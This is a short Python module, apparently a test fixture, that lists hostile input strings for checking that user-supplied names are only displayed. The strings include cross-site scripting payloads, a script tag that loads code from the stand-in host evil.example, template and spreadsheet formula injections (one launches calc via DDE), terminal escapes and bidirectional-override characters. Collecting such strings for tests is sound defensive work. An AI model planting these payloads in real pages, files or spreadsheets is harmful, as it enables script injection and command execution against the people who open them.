"""Names that strangers may give themselves, their files and their pages: none may do anything but be read."""

NASTY = (
    "<script>alert(1)</script>", "<ScRiPt src=//evil.example/x.js>", "</script><script>alert(1)</script>",
    "</style><script>alert(1)</script>", "/* style */", "policy-stands-here", "</title><h1>owned",
    "</textarea>", "</svg><img src=x onerror=alert(1)>", "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>", "<iframe src=javascript:alert(1)>", "<a href='javascript:alert(1)'>x</a>",
    '" onmouseover="alert(1)', "' onfocus='alert(1)", "` onclick=`alert(1)", '"><b>bold</b>', "'><i>i</i>",
    "<!-- comment", "--><script>alert(1)</script>", "]]><x>", "<?xml version='1.0'?>", "<!DOCTYPE html>",
    "&lt;script&gt;", "&#60;script&#62;", "&amp;amp;", "{{ 7 * 7 }}", "{% raw %}", "{# gone #}", "${7*7}",
    "{name} {n} {file}", "%s %d %n", "javascript:alert(1)", "data:text/html,<script>alert(1)</script>",
    "[link](javascript:alert(1))", "**bold** _it_ `code` # head", "![x](http://evil.example/x.png)",
    "=1+1", "+1", "-1", "@SUM(A1)", "=cmd|'/C calc'!A0", "\t=1+1", "\r=1+1", " =1+1", "＝1+1", "－1", "＠A1",
    "safe\u202eevil\u202c", "\u2066isolate\u2069", "\u200bzero\u200bwidth\ufeff", "\u2028line\u2029para",
    "nul\x00byte", "\x1b[31mred\x1b[0m", "\x1b]0;title\x07", "bell\x07\x08\x08\x08", "\x9b31m", "\ud800lone",
    "z\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308", "\u3164\u3164", "   ", "x" * 10_000,
    "a\nb\r\nc", "שלום עולם", "مرحبا", "👩‍👩‍👧‍👦", "Žalgiris „10b“", "\ufdd0\uffff\ue000",
)  # fmt: skip
